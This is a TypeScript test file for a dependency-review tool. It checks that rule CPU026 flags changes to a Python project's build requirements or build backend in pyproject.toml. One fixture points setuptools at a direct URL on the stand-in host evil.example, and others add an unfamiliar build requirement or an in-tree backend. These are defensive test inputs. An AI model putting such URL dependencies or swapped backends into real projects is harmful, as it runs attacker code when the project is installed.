import { afterAll, describe, expect, it } from 'vitest';
import { makeRepo, reviewHead, type Tree } from './repo.js';

/**
 * `pip install .` and `uv sync` build the project itself: they install `[build-system] requires` into an isolated
 * environment, which no lockfile pins (uv locks no build dependencies), and run the backend it names (pip
 * `load_pyproject_toml`, uv-build-frontend `SourceBuild::setup`). Before, a new build requirement, one moved to a URL
 * or another backend passed `--gate patch` with no finding. Each is CPU026.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

const pyproject = (requires: string, backend = 'build-backend = "setuptools.build_meta"') =>
  `[build-system]\nrequires = [${requires}]\n${backend}\n\n[project]\nname = "app"\nversion = "1.0.0"\n`;
const BASE = pyproject('"setuptools>=61", "wheel"');

async function review(base: Tree, head: Tree) {
  const repo = makeRepo(base, head);
  cleanups.push(repo.cleanup);
  const r = await reviewHead(repo.dir, { gate: 'patch' });
  return {
    found: r.findings.filter((f) => f.ruleId === 'CPU026').map((f) => `${f.location.path}:${f.location.line}`),
    gate: r.gate?.passed,
  };
}

describe('review of a project whose build requirements changed', () => {
  it('a new build requirement → CPU026 at `requires`, the gate fails', async () => {
    const r = await review(
      { 'pyproject.toml': BASE },
      { 'pyproject.toml': pyproject('"setuptools-scm-helper", "setuptools>=61", "wheel"') },
    );
    expect(r).toEqual({ found: ['pyproject.toml:2'], gate: false });
  });

  it('a build requirement moved to a direct URL → CPU026', async () => {
    const r = await review(
      { 'pyproject.toml': BASE },
      { 'pyproject.toml': pyproject('"setuptools @ https://evil.example/s.whl", "wheel"') },
    );
    expect(r.found).toEqual(['pyproject.toml:2']);
  });

  it('an in-tree backend (backend-path) → CPU026 at the backend settings', async () => {
    const head = pyproject('"setuptools>=61", "wheel"', 'build-backend = "backend"\nbackend-path = ["_build"]');
    const r = await review({ 'pyproject.toml': BASE }, { 'pyproject.toml': head });
    expect(r.found).toEqual(['pyproject.toml:4']);
  });

  it('a range moved for a requirement already there → nothing', async () => {
    const r = await review({ 'pyproject.toml': BASE }, { 'pyproject.toml': pyproject('"setuptools>=68", "wheel"') });
    expect(r).toEqual({ found: [], gate: true });
  });

  it('a new project with ordinary build requirements → nothing', async () => {
    const r = await review({ 'README.md': 'x' }, { 'pkg/pyproject.toml': BASE });
    expect(r.found).toEqual([]);
  });
});
